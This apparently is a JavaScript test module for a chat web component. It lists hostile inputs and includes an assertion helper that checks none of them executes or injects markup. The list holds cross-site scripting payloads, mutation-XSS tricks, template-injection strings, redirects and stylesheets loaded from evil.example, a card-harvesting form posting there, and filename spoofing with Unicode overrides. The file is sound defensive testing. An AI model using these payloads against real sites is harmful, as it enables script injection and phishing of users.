// Texts that attack, and what must not have come of them.

import assert from "node:assert/strict";

/** Texts that run, restyle or mislead where a page takes them for more than text. `boom` is a dialog or a mark on the window. */
export const CORPUS = [
  "<script>window.boom=1</script>", "<img src=x onerror=window.boom=1>", "<svg onload=window.boom=1>", "<iframe srcdoc='<script>parent.boom=1</script>'></iframe>",
  "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
  "[x](javascript:alert(1))", "<a href=javascript:alert(1)>x</a>", "https://example.cz/\"onmouseover=\"alert(1)", "https://user:secret@example.cz/", "https://example.cz/<script>alert(1)</script>",
  "<style>*{display:none!important}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
  "<math><mtext></mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= 7*7 %>", "&lt;img src=x onerror=alert(1)&gt;", "\u003cimg src=x onerror=alert(1)\u003e",
  "</div></section><h1>taken over</h1>", "<krabice-chat scenario=evil open></krabice-chat>", "<form action=//evil.example><input name=card></form>", "</textarea><script>alert(1)</script>",
  "__proto__", "constructor", "\u202Egnp.exe\u202C", "\u0000\u0007", "A\u200B\u200D\uFEFFB", "Z" + "\u0335\u0334".repeat(200), "🏴‍☠️👨‍👩‍👧‍👦".repeat(40), "مرحبا שלום", "W".repeat(1500), "\n".repeat(60) + "end",
];

const TAGS = ["a", "b", "button", "div", "form", "h1", "h2", "i", "input", "label", "p", "path", "section", "small", "span", "svg", "textarea", "time"];

/** Nothing in a chat is more than text, with the links that `known` begins; gives the texts of its bubbles. */
export async function harmless(page, known, about) {
  const found = await page.evaluate(() => {
    const root = document.querySelector("krabice-chat").shadowRoot;
    const all = [...root.querySelectorAll("*"), ...document.querySelectorAll("*")];
    return {
      boom: window.boom,
      chats: document.querySelectorAll("krabice-chat").length,
      tags: [...new Set([...root.querySelectorAll("*")].map(({ localName }) => localName))],
      handlers: all.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith("on") || name === "style" || name === "srcdoc")),
      links: [...root.querySelectorAll("a")].map(({ href, textContent }) => [href, textContent]),
      shown: [...root.querySelectorAll(".bubble[id]")].map(({ textContent }) => textContent),
      wide: root.querySelector(".log").scrollWidth > root.querySelector(".log").clientWidth,
    };
  });
  assert.equal(found.boom, undefined, about);
  assert.equal(found.chats, 1, about);
  assert.deepEqual(found.handlers, [], about);
  assert.deepEqual(found.tags.filter((tag) => !TAGS.includes(tag)), [], about);
  for (const [href, shown] of found.links) assert.equal(href.startsWith(known) && !href.includes("<"), true, `${href} ${shown}`);
  assert.equal(found.wide, false, about);
  return found.shown;
}
